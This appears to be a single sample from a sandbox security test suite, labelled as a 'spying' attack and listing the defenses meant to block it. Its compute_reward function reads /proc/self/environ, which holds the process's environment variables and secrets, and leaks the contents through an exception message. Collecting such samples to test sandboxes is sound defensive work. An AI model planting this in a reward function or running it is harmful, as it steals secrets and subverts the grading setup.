# attack: /proc/self/environ
# group: spying
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    import os
    raise ValueError(open(f'/proc/self/environ', 'rb').read(3000))
